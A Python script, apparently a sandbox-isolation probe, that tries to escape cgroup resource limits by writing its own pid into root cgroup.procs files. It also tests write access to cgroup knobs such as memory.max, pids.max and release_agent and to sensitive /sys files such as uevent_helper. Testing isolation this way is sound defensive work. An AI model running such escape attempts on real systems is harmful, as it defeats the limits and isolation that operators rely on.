"""Attack: escape the resource limits through the cgroup filesystem (move the script's pid into
the root cgroup, raise memory.max / memory.limit_in_bytes / pids.max) and reconfigure the
machine through /sys. /sys files are only opened for writing, never written; the cgroup escape
writes the script's own pid, which is the attack itself."""
import os

SYS_FILES = ["/sys/kernel/mm/transparent_hugepage/enabled", "/sys/power/state", "/sys/kernel/uevent_helper",
             "/sys/class/net/lo/mtu", "/sys/kernel/profiling", "/sys/module/printk/parameters/time"]
CGROUP_ROOTS = ["/sys/fs/cgroup", "/sys/fs/cgroup/memory", "/sys/fs/cgroup/pids", "/sys/fs/cgroup/unified"]
CGROUP_KNOBS = ["memory.max", "memory.limit_in_bytes", "memory.memsw.limit_in_bytes", "memory.swap.max",
                "pids.max", "cgroup.subtree_control", "release_agent", "notify_on_release"]


def open_for_write(path):
    try:
        os.close(os.open(path, os.O_WRONLY))
        return "opened for writing"
    except OSError as error:
        return "%s: %s" % (type(error).__name__, error.strerror)


def main():
    outcomes = {path: open_for_write(path) for path in SYS_FILES}
    own_paths = []
    with open("/proc/self/cgroup") as cgroups:
        for line in cgroups:
            own_paths.append(line.strip().split(":", 2)[2])
    for root in CGROUP_ROOTS:
        procs = os.path.join(root, "cgroup.procs")
        try:
            with open(procs, "w") as target:
                target.write(str(os.getpid()))
            outcomes["join " + procs] = "succeeded"
        except OSError as error:
            outcomes["join " + procs] = "%s: %s" % (type(error).__name__, error.strerror)
        for own in own_paths:
            for knob in CGROUP_KNOBS:
                path = os.path.normpath(root + "/" + own + "/" + knob)
                outcomes[path] = open_for_write(path)
    with open("/proc/self/cgroup") as cgroups:
        after = cgroups.read().strip()
    try:
        sys_entries = sorted(os.listdir("/sys"))
    except OSError as error:
        sys_entries = "ERROR %s" % error.strerror
    return {"succeeded": sorted(k for k, v in outcomes.items() if v in ("succeeded", "opened for writing")),
            "outcomes": outcomes, "cgroup_after": after, "sys_entries": sys_entries}
